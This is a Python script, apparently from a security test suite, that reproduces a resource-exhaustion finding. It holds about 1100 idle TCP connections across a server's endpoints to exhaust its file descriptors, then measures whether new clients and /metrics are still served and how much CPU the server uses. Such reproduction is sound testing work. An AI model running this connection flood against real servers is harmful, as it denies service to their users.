"""Finding 5: more idle TCP connections than the server has descriptors (it runs with a soft
limit of 1024), then a new client, a scrape of /metrics and the server's CPU while they idle."""

import time

from abuse import Attack, Client, arguments, cpu_seconds, log, open_idle_connections, raise_descriptor_limit, tcp_address
from metrics_http import scrape

options = arguments(lambda parser: parser.add_argument("--connections", type=int, default=1100))
raise_descriptor_limit(options.connections + 512)
attack = Attack(options)
# Spread over every listening endpoint, as the attacker in the issue did: each listener's backlog
# holds some connections without a descriptor, so one endpoint alone exhausts fewer.
addresses = [tcp_address(endpoint) for endpoint in (options.endpoint, options.events, options.snapshot) if endpoint]
held, connected = open_idle_connections(addresses, options.connections)
log(f"holding {len(held)} idle connection attempts, {connected} connected")
time.sleep(1.0)

client = Client(attack.context, options.endpoint)
reply, waited = client.call_json("catalog", {"op": "list_categories"}, timeout=2.0)
client.close()
scraped, scrape_seconds, scrape_status = scrape(options.metrics_port, timeout=3.0)
before = cpu_seconds(options.pid)
time.sleep(2.0)
idle_cpu = (cpu_seconds(options.pid) - before) / 2.0
log(f"new client: {'answered' if reply else 'no reply'} in {waited:.2f} s; /metrics: {scraped} in {scrape_seconds:.2f} s; CPU while idle {idle_cpu:.0%}")
for connection in held:
    connection.close()
attack.finish(held=len(held), new_client_answered=reply is not None and reply.get("ok") is True,
              new_client_ms=round(waited * 1000, 1), metrics_ok=scraped, metrics_status=scrape_status,
              metrics_ms=round(scrape_seconds * 1000, 1), idle_cpu_fraction=round(idle_cpu, 3))
